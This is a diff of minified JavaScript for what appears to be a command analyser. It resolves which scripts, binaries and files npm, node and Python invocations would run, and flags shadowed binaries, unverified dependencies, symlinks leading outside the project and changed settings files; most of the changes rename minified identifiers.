+t.directory)){const l=await ZI(n,te.posix.join(c,"node_modules/.bin"));for(const{name:u,path:d,isLocked:B}of l)a.push(Up(
+u,d,B,e))}return Ie([...o,...a])}function Up(t,e,n,s){return n?JI.has(t)?ae("program-replaced",s,{name:t,path:e},"warnin\
+g"):Ne:ae("program-replaced",s,{name:t,path:e})}const ZI=Us(async(t,e)=>{const n=[];for(const{path:s}of t.list(e)){const r=te.
+posix.basename(s).replace(/\.(?:cmd|exe|ps1)$/,"");if(!Hp.has(r))continue;const i=Je(t,s);if(i.kind!=="inside")continue;
+const o=i.path===s?await KI(t,i.entry):i.path,a=o!==void 0&&/node_modules\/(?!\.bin\/)/.test(o);n.push({name:r,path:s,isLocked:a&&
+!i.entry.tracked})}return n});async function KI(t,{path:e,size:n=0}){if(n>WI)return;const s=(await t.read(e)).toString("\
+utf8"),[,r]=/"\$basedir\/([^"\n]+)"\s+"\$@"/.exec(s)??[];return r&&te.posix.join(te.posix.dirname(e),r)}const WI=16*1024,
+qI=["",...["js","cjs","mjs","ts","cts","mts","jsx","tsx","json"].map(t=>`.${t}`)];async function VI(t,e){return Jp(t.tool??
+{files:[],roots:[],nodeFlags:[]},e)}function YI({files:t=[],flags:e,family:n},s){const r=e.flatMap(({name:i,value:o})=>o&&
+n&&pf(n,i)?o:[]);return Jp({files:t,roots:r,nodeFlags:[]},s)}async function Jp({files:t,roots:e,nodeFlags:n},s){const r=[
+"",...e].flatMap(o=>{const a=xe(rt(s,o));return a===void 0?[]:[a]}),i=[];for(const o of t)i.push(o.as==="tests"?await e$(
+o,s):await XI(o,[...new Set(r)],s));for(const o of n)i.push(await up(o,s));return Ie(i)}async function XI(t,e,n){const{as:s,
 path:r,span:i}=t,o=fn(r,i,n.directory);if(o!==void 0)return{targets:[],problems:[o]};const a=[];for(const c of e){const l=xe(
-te.posix.join(c,r));if(l===void 0)continue;const u=await c$(t,l,n);u!==void 0&&a.push(u)}return a.length>0?Ie(a):s==="co\
-de"||s==="config"?gi(n.tree,te.posix.join(n.directory,r),r,i):s==="module"&&t.first?Bp(n,r,i):Re}async function c$(t,e,n){
-const{as:s,path:r,span:i}=t,{tree:o}=n,a=ap(o,s==="place"?[e]:r$.map(u=>e+u));if(a===void 0)return;const c=a.kind==="ins\
-ide"&&!mt(a.entry.kind);if(s==="place"&&a.kind==="inside")return Re;if(!c)return Ti(t,e,a,n);if(s==="config"){const u=Je(
-o,te.posix.join(a.path,"tsconfig.json"));return u.kind==="missing"?Re:Ti(t,e,u,n)}const l=await cp(o,e);return l===Rt?ae(
+te.posix.join(c,r));if(l===void 0)continue;const u=await QI(t,l,n);u!==void 0&&a.push(u)}return a.length>0?Ie(a):s==="co\
+de"||s==="config"?gi(n.tree,te.posix.join(n.directory,r),r,i):s==="module"&&t.first?lp(n,r,i):Ne}async function QI(t,e,n){
+const{as:s,path:r,span:i}=t,{tree:o}=n,a=ip(o,s==="place"?[e]:qI.map(u=>e+u));if(a===void 0)return;const c=a.kind==="ins\
+ide"&&!mt(a.entry.kind);if(s==="place"&&a.kind==="inside")return Ne;if(!c)return Ti(t,e,a,n);if(s==="config"){const u=Je(
+o,te.posix.join(a.path,"tsconfig.json"));return u.kind==="missing"?Ne:Ti(t,e,u,n)}const l=await op(o,e);return l===Nt?ae(
 "package-json-invalid",i,{path:te.posix.join(r,"package.json")}):l&&Ti(t,e,l.found,n)}async function Ti({as:t,path:e,span:n,
-ifFile:s},r,i,o){const a=Ci(i,e,n);if("problems"in a)return a;const c=await ip(o,a,e,n);if(c.some(Di))return{targets:[],
+ifFile:s},r,i,o){const a=Ci(i,e,n);if("problems"in a)return a;const c=await sp(o,a,e,n);if(c.some(Di))return{targets:[],
 problems:c};const l=yi(o,{name:e,path:a.path,wanted:r},n),u=t==="module"&&s?[s]:[];return{...l,problems:[...c,...u,...l.
-problems]}}async function u$(t,e){const{path:n,span:s}=t,r=xi(n,s,e.directory);if(r!==void 0)return{targets:[],problems:[
-r]};const o=(ki(n)?(Qs(n)??[]).map(Vh):[n]).map(c=>Je(e.tree,rt(e,c)));if(o.some(({kind:c})=>c==="outside"))return ae("t\
-arget-outside",s,{path:n,reason:"symlink"});const[a]=o;return ki(n)||a?.kind!=="inside"||!mt(a.entry.kind)?Re:Ti(t,xe(rt(
-e,n))??n,a,e)}async function l$(t,e,n){const{subcommand:s,operands:r,flags:i}=t,[o]=r,a=o?.span??i[0]?.span??{start:0,end:0};
-if(s==="exec")return o===void 0?Re:Cc(e,t,o);const{project:c,selected:l,runs:u,packages:d,problems:B}=await Ep(t,e,a);if(c===
-void 0)return{targets:[],problems:B};const f=[await Ya({...e,directory:c},a)];for(const m of d){const g={...e,directory:m},
-C=u.filter(b=>b.directory===m);C.length>0&&f.push(await Jp(g,a));for(const b of C)f.push(await Mp(g,b,a,n));const y=te.posix.
+problems]}}async function e$(t,e){const{path:n,span:s}=t,r=xi(n,s,e.directory);if(r!==void 0)return{targets:[],problems:[
+r]};const o=(ki(n)?(Ys(n)??[]).map(Wh):[n]).map(c=>Je(e.tree,rt(e,c)));if(o.some(({kind:c})=>c==="outside"))return ae("t\
+arget-outside",s,{path:n,reason:"symlink"});const[a]=o;return ki(n)||a?.kind!=="inside"||!mt(a.entry.kind)?Ne:Ti(t,xe(rt(
+e,n))??n,a,e)}async function t$(t,e,n){const{subcommand:s,operands:r,flags:i}=t,[o]=r,a=o?.span??i[0]?.span??{start:0,end:0};
+if(s==="exec")return o===void 0?Ne:gc(e,t,o);const{project:c,selected:l,runs:u,packages:d,problems:B}=await bp(t,e,a);if(c===
+void 0)return{targets:[],problems:B};const f=[await Va({...e,directory:c},a)];for(const m of d){const g={...e,directory:m},
+C=u.filter(b=>b.directory===m);C.length>0&&f.push(await zp(g,a));for(const b of C)f.push(await Pp(g,b,a,n));const y=te.posix.
 join(m,"package.json");e.changed.has(y)&&f.push(ae("target-changed",a,{path:y}))}const h=te.posix.join(c,"package.json");
-return l&&!d.includes(c)&&e.changed.has(h)&&f.push(ae("target-changed",a,{path:h})),Ie([...f,{targets:[],problems:B}])}async function Cc(t,e,{
-text:n,span:s}){if(!Vs(n))return Re;const r=e.starts==="file",i=r?Re:await np(t,a=>d$(a,n,s));if(!r&&i.targets.length===
-0)return i;const o=await i$(e,t);return Ie([i,Xr(n)?Re:ae("tool-unknown",s,{tool:n}),o])}async function d$(t,e,n){const{
-tree:s}=t,r=await Xs(s,""),i=(await gc(s)).get(e);if(i!==void 0&&t.via!==void 0&&s.stat("node_modules")===void 0)return Va(
-t,{text:i.file,span:n});if(r===Rt)return ae("package-json-invalid",n,{path:"package.json"});if(r?.binaries.has(e))return ae(
+return l&&!d.includes(c)&&e.changed.has(h)&&f.push(ae("target-changed",a,{path:h})),Ie([...f,{targets:[],problems:B}])}async function gc(t,e,{
+text:n,span:s}){if(!Ws(n))return Ne;const r=e.starts==="file",i=r?Ne:await ep(t,a=>n$(a,n,s));if(!r&&i.targets.length===
+0)return i;const o=await VI(e,t);return Ie([i,Yr(n)?Ne:ae("tool-unknown",s,{tool:n}),o])}async function n$(t,e,n){const{
+tree:s}=t,r=await Vs(s,""),i=(await mc(s)).get(e);if(i!==void 0&&t.via!==void 0&&s.stat("node_modules")===void 0)return qa(
+t,{text:i.file,span:n});if(r===Nt)return ae("package-json-invalid",n,{path:"package.json"});if(r?.binaries.has(e))return ae(
 "binary-shadowed",n,{name:e,path:r.path});const o=rt(t,`node_modules/.bin/${e}`);if(t.directory!==""&&s.stat(o)!==void 0)
-return ae("dependency-unverified",n,{name:e,path:o,fault:"elsewhere"});const a=s.stat("node_modules");if(a===void 0)return g$(
-t,r,e,n);const c=await p$(s,e),l=s.stat(c),u=Je(s,c);if(l===void 0||u.kind==="missing")return ae("binary-missing",n,{name:e});
-if(u.kind!=="inside")return ae("target-outside",n,{path:c,reason:"symlink"});const d=Cs(u.path),B=a.tracked||l.tracked,f=!B&&
-u.entry.tracked&&await f$(s,u.path);if(d===void 0&&!f||!mt(u.entry.kind))return ae("dependency-unverified",n,{name:e,path:u.
+return ae("dependency-unverified",n,{name:e,path:o,fault:"elsewhere"});const a=s.stat("node_modules");if(a===void 0)return c$(
+t,r,e,n);const c=await o$(s,e),l=s.stat(c),u=Je(s,c);if(l===void 0||u.kind==="missing")return ae("binary-missing",n,{name:e});
+if(u.kind!=="inside")return ae("target-outside",n,{path:c,reason:"symlink"});const d=gs(u.path),B=a.tracked||l.tracked,f=!B&&
+u.entry.tracked&&await r$(s,u.path);if(d===void 0&&!f||!mt(u.entry.kind))return ae("dependency-unverified",n,{name:e,path:u.
 path,fault:"elsewhere"});if(!f&&(B||u.entry.tracked)){const g={name:d??e,path:u.path,fault:"committed"};return ae("depen\
-dency-unverified",n,g)}const h=f?await nc(t,h$(s,c)??e,n):await B$(t,e,u.path,n);if(h.some(Di))return{targets:[],problems:h};
-if(!await m$(s,u.path))return ae("binary-not-node",n,{name:e,path:u.path});f&&t.changed.has(u.path)&&h.push(be("target-c\
-hanged",n,{path:u.path}));const m={kind:"package_binary",name:e,path:u.path};return{targets:[mi(t,m)],problems:h}}async function B$(t,e,n,s){
-const r=Cs(n)??e,i=n.slice(`node_modules/${r}/`.length),o={name:e.startsWith("@")?void 0:e,file:i},a=await tr(t,{name:r,
-path:n,binary:o},s);return r===e||!(await Zt(t.tree)).npm?.packages.has(e)?a:[...a,...await nc(t,e,s)]}async function f$(t,e){
-return(await zp(t)).some(n=>xt(e,n))}function h$(t,e){return Cs(te.posix.join(te.posix.dirname(e),t.readlink(e)??""))}async function p$(t,e){
+dency-unverified",n,g)}const h=f?await tc(t,i$(s,c)??e,n):await s$(t,e,u.path,n);if(h.some(Di))return{targets:[],problems:h};
+if(!await a$(s,u.path))return ae("binary-not-node",n,{name:e,path:u.path});f&&t.changed.has(u.path)&&h.push(be("target-c\
+hanged",n,{path:u.path}));const m={kind:"package_binary",name:e,path:u.path};return{targets:[mi(t,m)],problems:h}}async function s$(t,e,n,s){
+const r=gs(n)??e,i=n.slice(`node_modules/${r}/`.length),o={name:e.startsWith("@")?void 0:e,file:i},a=await Qs(t,{name:r,
+path:n,binary:o},s);return r===e||!(await Zt(t.tree)).npm?.packages.has(e)?a:[...a,...await tc(t,e,s)]}async function r$(t,e){
+return(await Gp(t)).some(n=>xt(e,n))}function i$(t,e){return gs(te.posix.join(te.posix.dirname(e),t.readlink(e)??""))}async function o$(t,e){
 const n=`node_modules/.bin/${e}`;if(!e.startsWith("@"))return n;const s=await Jt(t,`node_modules/${e}`);if(s===void 0)return n;
-const[r]=s.binaries.keys();return`node_modules/.bin/${(s.binaries.size===1?r:void 0)??e.replace(/^@[^/]*\//,"")}`}async function m$(t,e){
-return/\.[cm]?js$/.test(e)||/^#!.*[/ ]node\b/.test(await pT(t,e))}async function g$(t,e,n,s){const r=await l1(t.tree,n,e?.
-dependencies??new Set);if(r===void 0)return ae("binary-missing",s,{name:n});const i={kind:"package_binary",name:n},o=await tr(
+const[r]=s.binaries.keys();return`node_modules/.bin/${(s.binaries.size===1?r:void 0)??e.replace(/^@[^/]*\//,"")}`}async function a$(t,e){
+return/\.[cm]?js$/.test(e)||/^#!.*[/ ]node\b/.test(await oT(t,e))}async function c$(t,e,n,s){const r=await t1(t.tree,n,e?.
+dependencies??new Set);if(r===void 0)return ae("binary-missing",s,{name:n});const i={kind:"package_binary",name:n},o=await Qs(
 t,{name:r,path:n},s);return{targets:[mi(t,i)],problems:[t.tree.isPending?.("node_modules")?be("target-not-judged",s,{path:n}):
-be("not-installed",s,{name:n}),...o]}}async function Wp(t,e,n,s){const{subcommand:r,operands:i,flags:o}=t,[a]=i;if(a===void 0)
-return Re;const{text:c,span:l}=a,u=Ie([await Ya({...n,directory:""},l),n.directory===""?Re:await Ya(n,l)]),d=hs(c)||n.families?.
-allowed.has(c)===!0;if(r==="exec"){const g=d?Re:await Cc(n,t,a);return Ie([u,g])}const B=Vp(t,e),f=await C$(n,B,l);if("p\
-roblems"in f)return Ie([u,f]);const h=f.filter(({manifest:g})=>g.scripts.has(c));if(h.length>0){const g=h.map(C=>w$(C,t,
+be("not-installed",s,{name:n}),...o]}}async function Zp(t,e,n,s){const{subcommand:r,operands:i,flags:o}=t,[a]=i;if(a===void 0)
+return Ne;const{text:c,span:l}=a,u=Ie([await Va({...n,directory:""},l),n.directory===""?Ne:await Va(n,l)]),d=hs(c)||n.families?.
+allowed.has(c)===!0;if(r==="exec"){const g=d?Ne:await gc(n,t,a);return Ie([u,g])}const B=Wp(t,e),f=await u$(n,B,l);if("p\
+roblems"in f)return Ie([u,f]);const h=f.filter(({manifest:g})=>g.scripts.has(c));if(h.length>0){const g=h.map(C=>d$(C,t,
 n,s));return Ie([u,...await Promise.all(g)])}if(r==="script-or-tool"&&d)return u;if(r==="script-or-tool"&&/^(?!@)[^\\/]*[\\/]/.
-test(c)){const g=[Xe("outside-code",e.program,a)];return Ie([u,{targets:[],problems:g}])}if(r==="script-or-tool"&&Vs(c)){
-const g=await Cc(n,{...t,subcommand:"exec"},a);return Ie([u,g])}if(r==="script-or-tool"&&!/^[\w:.-]*\w[\w:.-]*$/.test(c)){
+test(c)){const g=[Xe("outside-code",e.program,a)];return Ie([u,{targets:[],problems:g}])}if(r==="script-or-tool"&&Ws(c)){
+const g=await gc(n,{...t,subcommand:"exec"},a);return Ie([u,g])}if(r==="script-or-tool"&&!/^[\w:.-]*\w[\w:.-]*$/.test(c)){
 const g=[Xe("outside-code",e.program,a)];return Ie([u,{targets:[],problems:g}])}const m=o.some(({name:g})=>g==="--if-pre\
-sent");return Ie([u,ae("npm-script-missing",l,{script:c,passes:m})])}function qp({data:t}){return t.starts==="script-or-\
-tool"||t.starts==="script-tool-or-file"}function Vp({anyPackage:t,flags:e,passthrough:n},{data:s}){const r=[...e.map(({name:i})=>i),
-...n.map(({text:i})=>i)];return t===!0||r.some(i=>s.selecting_flags.includes(i.replace(/=.*/s,"")))}async function C$({tree:t,
-directory:e},n,s){const r=er(e).filter(a=>t.stat(te.posix.join(a,"package.json"))!==void 0),i=n?y$(t):r.slice(0,1);if(i.
-length===0)return ae("package-json-missing",s,{directory:e});const o=[];for(const a of i){const c=await Xs(t,a);if(c===Rt)
+sent");return Ie([u,ae("npm-script-missing",l,{script:c,passes:m})])}function Kp({data:t}){return t.starts==="script-or-\
+tool"||t.starts==="script-tool-or-file"}function Wp({anyPackage:t,flags:e,passthrough:n},{data:s}){const r=[...e.map(({name:i})=>i),
+...n.map(({text:i})=>i)];return t===!0||r.some(i=>s.selecting_flags.includes(i.replace(/=.*/s,"")))}async function u$({tree:t,
+directory:e},n,s){const r=Xs(e).filter(a=>t.stat(te.posix.join(a,"package.json"))!==void 0),i=n?l$(t):r.slice(0,1);if(i.
+length===0)return ae("package-json-missing",s,{directory:e});const o=[];for(const a of i){const c=await Vs(t,a);if(c===Nt)
 return ae("package-json-invalid",s,{path:te.posix.join(a,"package.json")});c!==void 0&&o.push({directory:a,manifest:c})}
-return o}function y$(t){const e=[];for(const{path:n}of Wr(t,"package.json"))n.split("/").includes("node_modules")||e.push(
-te.posix.dirname(n).replace(/^\.$/,""));return e}async function w$({directory:t,manifest:e},{operands:[n],passthrough:s},r,i){
-const o={...r,directory:t},{text:a="",span:c={start:0,end:0}}=n??{},l=[await Jp(o,c)],u=xp(e,t,{event:a,words:s});for(const f of u)
-l.push(await Mp(o,f,c,i));const d=kp(u,a,o,c);return l.push({targets:[],problems:d}),r.changed.has(e.path)&&l.push(ae("t\
-arget-changed",c,{path:e.path})),Ie(l)}const b$=5;async function _$(t,e,n,s){const r=E$(t,e,n);if("problems"in r)return r;
-const{subcommand:i,starts:o,operands:a,module:c,launched:l}=t,[u]=a,d=[k$(e,n,yc(t)),...x$(t,r),await o$(t,n)],B={subcommand:i??
-u?.text??"",span:yc(t)};if(d.push(T$(e,r,B)),c!==void 0&&(o!=="module"||l)&&d.push(S$(e,r,c)),u!==void 0&&o==="file"&&d.
-push(O$(t,e,r)),u!==void 0&&o==="module"&&d.push(A$(r,u,t.passthrough)),!qp(e))return Ie(d);if(i==="run"||i==="exec"||i===
-"script-or-tool")d.push(await Wp(t,e,r,s));else if(i!==void 0&&Vp(t,e)){const f={text:i,span:yc(t),quoted:!1},h={...t,subcommand:"\
-run",operands:[f]};d.push(await Wp(h,e,r,s))}return Ie(d)}function yc({operands:t,flags:e}){return t[0]?.span??e[0]?.span??
-{start:0,end:0}}function E$({flags:t},e,n){let s=n;for(const{name:r,value:i,span:o}of t){if(i===void 0||!mf(e,r))continue;
-const a=fT(s,i,o);if("problems"in a)return a;s={...n,directory:a.path}}return s}function k$({program:t,data:e},{tree:n,changed:s},r){
-if(e.build_files.length===0)return Re;const i=v$(n),o=i.get(e)??D$(n,e.build_files);i.set(e,o);const a=o.filter(l=>s.has(
-l)),c=o.slice(0,b$);return Ie([o.length===0?Re:ae("build-files-unread",r,{program:t,files:c,count:o.length}),...a.map(l=>ae(
-"target-changed",r,{path:l}))])}const v$=Qt(()=>new Map);function D$(t,e){const n=s=>e.some(r=>Bn(r.includes("/")?s:te.posix.
-basename(s),r,{dot:!0}));return[...t.files()].flatMap(({path:s})=>!xt(s,"node_modules")&&n(s)?s:[])}function x$({operands:t,
-flags:e,starts:n,subcommand:s,family:r},i){const o=r&&qp(r)&&s!=="test";return[...(n===void 0&&!o?t:[]).map(({text:l,span:u})=>({
+return o}function l$(t){const e=[];for(const{path:n}of Zr(t,"package.json"))n.split("/").includes("node_modules")||e.push(
+te.posix.dirname(n).replace(/^\.$/,""));return e}async function d$({directory:t,manifest:e},{operands:[n],passthrough:s},r,i){
+const o={...r,directory:t},{text:a="",span:c={start:0,end:0}}=n??{},l=[await zp(o,c)],u=vp(e,t,{event:a,words:s});for(const f of u)
+l.push(await Pp(o,f,c,i));const d=_p(u,a,o,c);return l.push({targets:[],problems:d}),r.changed.has(e.path)&&l.push(ae("t\
+arget-changed",c,{path:e.path})),Ie(l)}const B$=5;async function f$(t,e,n,s){const r=h$(t,e,n);if("problems"in r)return r;
+const{subcommand:i,starts:o,operands:a,module:c,launched:l}=t,[u]=a,d=[p$(e,n,Cc(t)),...C$(t,r),await YI(t,n)],B={subcommand:i??
+u?.text??"",span:Cc(t)};if(d.push(_$(e,r,B)),c!==void 0&&(o!=="module"||l)&&d.push(b$(e,r,c)),u!==void 0&&o==="file"&&d.
+push(y$(t,e,r)),u!==void 0&&o==="module"&&d.push(w$(r,u,t.passthrough)),!Kp(e))return Ie(d);if(i==="run"||i==="exec"||i===
+"script-or-tool")d.push(await Zp(t,e,r,s));else if(i!==void 0&&Wp(t,e)){const f={text:i,span:Cc(t),quoted:!1},h={...t,subcommand:"\
+run",operands:[f]};d.push(await Zp(h,e,r,s))}return Ie(d)}function Cc({operands:t,flags:e}){return t[0]?.span??e[0]?.span??
+{start:0,end:0}}function h$({flags:t},e,n){let s=n;for(const{name:r,value:i,span:o}of t){if(i===void 0||!pf(e,r))continue;
+const a=rT(s,i,o);if("problems"in a)return a;s={...n,directory:a.path}}return s}function p$({program:t,data:e},{tree:n,changed:s},r){
+if(e.build_files.length===0)return Ne;const i=m$(n),o=i.get(e)??g$(n,e.build_files);i.set(e,o);const a=o.filter(l=>s.has(
+l)),c=o.slice(0,B$);return Ie([o.length===0?Ne:ae("build-files-unread",r,{program:t,files:c,count:o.length}),...a.map(l=>ae(
+"target-changed",r,{path:l}))])}const m$=Qt(()=>new Map);function g$(t,e){const n=s=>e.some(r=>Bn(r.includes("/")?s:te.posix.
+basename(s),r,{dot:!0}));return[...t.files()].flatMap(({path:s})=>!xt(s,"node_modules")&&n(s)?s:[])}function C$({operands:t,
+flags:e,starts:n,subcommand:s,family:r},i){const o=r&&Kp(r)&&s!=="test";return[...(n===void 0&&!o?t:[]).map(({text:l,span:u})=>({
 text:l.replace(/::.*$/s,""),span:u})),...e.flatMap(({value:l,span:u})=>l===void 0?[]:[{text:l,span:u}])].map(({text:l,span:u})=>{
-const d=xe(rt(i,l));return d===void 0||d===""?Re:xt(d,".git",{ignoreCase:!0})?ae("target-outside",u,{path:d,reason:"git"}):
-Je(i.tree,d).kind==="outside"?ae("target-outside",u,{path:l,reason:"symlink"}):Re})}function O$({operands:[t],parsed:e},n,s){
-if(t===void 0)return Re;const{targets:r,problems:i}=Yp(s,t),a=za(n,t.text,t.span).length>0?[]:r.flatMap(({path:c=""})=>za(
-n,c,t.span));return{targets:e?r.map(c=>({...c,parsed:e})):r,problems:[...i,...a]}}function Yp(t,{text:e,span:n}){const s=fn(
+const d=xe(rt(i,l));return d===void 0||d===""?Ne:xt(d,".git",{ignoreCase:!0})?ae("target-outside",u,{path:d,reason:"git"}):
+Je(i.tree,d).kind==="outside"?ae("target-outside",u,{path:l,reason:"symlink"}):Ne})}function y$({operands:[t],parsed:e},n,s){
+if(t===void 0)return Ne;const{targets:r,problems:i}=qp(s,t),a=Ha(n,t.text,t.span).length>0?[]:r.flatMap(({path:c=""})=>Ha(
+n,c,t.span));return{targets:e?r.map(c=>({...c,parsed:e})):r,problems:[...i,...a]}}function qp(t,{text:e,span:n}){const s=fn(
 e,n,t.directory);if(s!==void 0)return{targets:[],problems:[s]};const r=xe(rt(t,e))??"",i=Je(t.tree,r);if(i.kind==="missi\
 ng")return gi(t.tree,r,e,n);const o=Ci(i,e,n);return"problems"in o?o:o.tracked?yi(t,{name:e,path:o.path,wanted:r},n):ae(
-"target-missing",n,{path:e,untracked:!0})}function A$(t,e,n){const{text:s,span:r}=e,i=Ma(s).find(o=>!o.endsWith("/__init\
-__.py")&&t.tree.stat(rt(t,o))!==void 0);if(i===void 0){const o=DS(e,n,_S);return Ie([ae("tool-unknown",r,{tool:s}),{targets:[],
-problems:o}])}return Yp(t,{text:i,span:r,quoted:!1})}function S$({program:t},{tree:e,base:n,changed:s,directory:r},{text:i,
+"target-missing",n,{path:e,untracked:!0})}function w$(t,e,n){const{text:s,span:r}=e,i=ja(s).find(o=>!o.endsWith("/__init\
+__.py")&&t.tree.stat(rt(t,o))!==void 0);if(i===void 0){const o=gS(e,n,fS);return Ie([ae("tool-unknown",r,{tool:s}),{targets:[],
+problems:o}])}return qp(t,{text:i,span:r,quoted:!1})}function b$({program:t},{tree:e,base:n,changed:s,directory:r},{text:i,
 span:o}){const a=`-m ${i}`,[c]=i.split("."),l=[...s].filter(u=>{const[,d=""]=/^(\w+)(?:\.py|\/__init__\.py)$/.exec(te.posix.
-relative(r,u))??[];return e.stat(u)!==void 0&&n?.stat(u)===void 0&&(d===c||_h(d))});return Ie(l.map(u=>ae("settings-chan\
-ged",o,{program:t,subcommand:a,path:u})))}function T$({program:t,data:e},{changed:n,directory:s},{subcommand:r,span:i}){
-const a=(e.settings.length===0?[]:er(s)).flatMap(l=>e.settings.map(u=>te.posix.join(l,u))),c=[...n].filter(l=>a.some(u=>xt(
-l,u)));return Ie(c.map(l=>ae("settings-changed",i,{program:t,subcommand:r,path:l})))}function I$(t,e,n){const s=new uT((r,i)=>Xp(
-r,i,s),n);return Xp(t,e,s)}async function Xp(t,e,n){const s=[];for(const r of[t,...fi(t)]){const i=await L$(r,e);if("rul\
-e"in i)s.push({targets:[],problems:[i]});else for(const o of i)s.push(await $$(o,e,n))}return Ie(s)}function $$(t,e,n){const{
-program:s,family:r}=t;return r!==void 0?_$(t,r,e,n):s==="node"?w1(t,e):l$(t,e,n)}const R$=/^[\w:.@/-]+$/,Qp=200,N$=4,F$=/^[\w:.@/*?{},[\]-]+$/;
-async function L$(t,e){const{selects:n,operands:s}=t,[r]=s;if(n===void 0||r===void 0)return[t];const i=await Jt(e.tree,e.
-directory),{text:o,span:a}=r,c={program:"npm",flag:o};if(!P$(o))return be("outside-code",a,c);const l=[...i?.scripts.keys()??
-[]];if(l.some(d=>d.length>Qp))return be("outside-code",a,c);const u=l.filter(j$(o,n));return u.length===0?be("npm-script\
--missing",a,{script:o,passes:!1}):u.every(d=>R$.test(d))?u.map(d=>{const{selects:B,...f}=t;return{...f,operands:[{...r,text:d}]}}):
-be("outside-code",a,c)}function P$(t){return t.length<=Qp&&F$.test(t)&&t.split("*").length-1<=N$}function j$(t,e){if(e===
-"glob"){const i=hi(em(t),{nonegate:!0,strictSlashes:!0});return o=>i(em(o))}const n=t.indexOf("*"),[s,r]=[t.slice(0,n),t.
-slice(n+1)];return i=>i.length>=s.length+r.length&&i.startsWith(s)&&i.endsWith(r)}function em(t){return t.replace(/[:/]/g,
-e=>e===":"?"/":":")}const tm={start:0,end:0},M$=200;function nm({steps:t}){return t.flatMap(e=>e.command?.nested?nm(e.command.
-nested):[e])}async function sm(t,e,n={left:M$}){const{subcommand:s,flags:r}=t;if(s===void 0)return;const{project:i,selected:o,
-runs:a,packages:c}=await Ep(t,e,tm);if(i===void 0)return;const l=await ms({...e,directory:i}),u=await rm(e,i);if("unread"in
-l||u===void 0)return;const{settings:d}=l,B=q$.some(C=>C in d);if(u.devEngines!==void 0||B)return;const f=[],h=V$(r,d);for(const C of c){
-const y=await rm(e,C);if(y===void 0||G$(y))return;const b=a.filter(O=>O.directory===C),D=b.length===0?await J$(t,e,C):void 0;
-D!==void 0&&f.push({...im(y),...D,directory:C});for(const O of b){const v=await H$(O,e,h,n);f.push({...im(y),...v})}}const m=d["\
-node-options"],{prefix:g}=tc(t);return{subcommand:s,directory:e.directory,project:i,prefixed:g!==void 0,inWorkspaces:o,config:h,
-...typeof m=="string"&&{nodeOptions:m},steps:f}}async function rm({tree:t},e){const n=await gs(t,rt({directory:e},"packa\
-ge.json"));return n===void 0||n===Rt?void 0:yt(n)}function G$({bin:t,directories:e}){return!t&&"bin"in yt(e)}function im(t){
-const{name:e,version:n}=t;return{packageId:e&&n?`${String(e)}@${String(n)}`:"",packageEnv:Y$(t)}}async function H$(t,e,n,s){
-const{directory:r,event:i,body:o}=t,a=dc(t),c={...e,directory:r},l=K$(a),u=await U$(l,c,{config:n,budget:s}),d=t.words.map(
-f=>f.text),B=l&&{...l,...u&&{nested:u}};return{directory:r,event:i,body:o,words:d,text:a,...B&&{command:B}}}const z$=new Set(
-["--if-present","--include-workspace-root","--workspace","--workspaces"]);async function U$(t,e,{config:n,budget:s}){if(!(t?.
+relative(r,u))??[];return e.stat(u)!==void 0&&n?.stat(u)===void 0&&(d===c||wh(d))});return Ie(l.map(u=>ae("settings-chan\
+ged",o,{program:t,subcommand:a,path:u})))}function _$({program:t,data:e},{changed:n,directory:s},{subcommand:r,span:i}){
+const a=(e.settings.length===0?[]:Xs(s)).flatMap(l=>e.settings.map(u=>te.posix.join(l,u))),c=[...n].filter(l=>a.some(u=>xt(
+l,u)));return Ie(c.map(l=>ae("settings-changed",i,{program:t,subcommand:r,path:l})))}function E$(t,e,n){const s=new eT((r,i)=>Vp(
+r,i,s),n);return Vp(t,e,s)}async function Vp(t,e,n){const s=[];for(const r of[t,...fi(t)]){const i=await O$(r,e);if("rul\
+e"in i)s.push({targets:[],problems:[i]});else for(const o of i)s.push(await k$(o,e,n))}return Ie(s)}function k$(t,e,n){const{
+program:s,family:r}=t;return r!==void 0?f$(t,r,e,n):s==="node"?d1(t,e):t$(t,e,n)}const v$=/^[\w:.@/-]+$/,Yp=200,D$=4,x$=/^[\w:.@/*?{},[\]-]+$/;
+async function O$(t,e){const{selects:n,operands:s}=t,[r]=s;if(n===void 0||r===void 0)return[t];const i=await Jt(e.tree,e.
+directory),{text:o,span:a}=r,c={program:"npm",flag:o};if(!A$(o))return be("outside-code",a,c);const l=[...i?.scripts.keys()??
+[]];if(l.some(d=>d.length>Yp))return be("outside-code",a,c);const u=l.filter(S$(o,n));return u.length===0?be("npm-script\
+-missing",a,{script:o,passes:!1}):u.every(d=>v$.test(d))?u.map(d=>{const{selects:B,...f}=t;return{...f,operands:[{...r,text:d}]}}):
+be("outside-code",a,c)}function A$(t){return t.length<=Yp&&x$.test(t)&&t.split("*").length-1<=D$}function S$(t,e){if(e===
+"glob"){const i=hi(Xp(t),{nonegate:!0,strictSlashes:!0});return o=>i(Xp(o))}const n=t.indexOf("*"),[s,r]=[t.slice(0,n),t.
+slice(n+1)];return i=>i.length>=s.length+r.length&&i.startsWith(s)&&i.endsWith(r)}function Xp(t){return t.replace(/[:/]/g,
+e=>e===":"?"/":":")}const Qp={start:0,end:0},T$=200;function em({steps:t}){return t.flatMap(e=>e.command?.nested?em(e.command.
+nested):[e])}async function tm(t,e,n={left:T$}){const{subcommand:s,flags:r}=t;if(s===void 0)return;const{project:i,selected:o,
+runs:a,packages:c}=await bp(t,e,Qp);if(i===void 0)return;const l=await ps({...e,directory:i}),u=await nm(e,i);if("unread"in
+l||u===void 0)return;const{settings:d}=l,B=M$.some(C=>C in d);if(u.devEngines!==void 0||B)return;const f=[],h=G$(r,d);for(const C of c){
+const y=await nm(e,C);if(y===void 0||I$(y))return;const b=a.filter(O=>O.directory===C),D=b.length===0?await F$(t,e,C):void 0;
+D!==void 0&&f.push({...sm(y),...D,directory:C});for(const O of b){const v=await $$(O,e,h,n);f.push({...sm(y),...v})}}const m=d["\
+node-options"],{prefix:g}=ec(t);return{subcommand:s,directory:e.directory,project:i,prefixed:g!==void 0,inWorkspaces:o,config:h,
+...typeof m=="string"&&{nodeOptions:m},steps:f}}async function nm({tree:t},e){const n=await ms(t,rt({directory:e},"packa\
+ge.json"));return n===void 0||n===Nt?void 0:yt(n)}function I$({bin:t,directories:e}){return!t&&"bin"in yt(e)}function sm(t){
+const{name:e,version:n}=t;return{packageId:e&&n?`${String(e)}@${String(n)}`:"",packageEnv:H$(t)}}async function $$(t,e,n,s){
+const{directory:r,event:i,body:o}=t,a=lc(t),c={...e,directory:r},l=P$(a),u=await R$(l,c,{config:n,budget:s}),d=t.words.map(
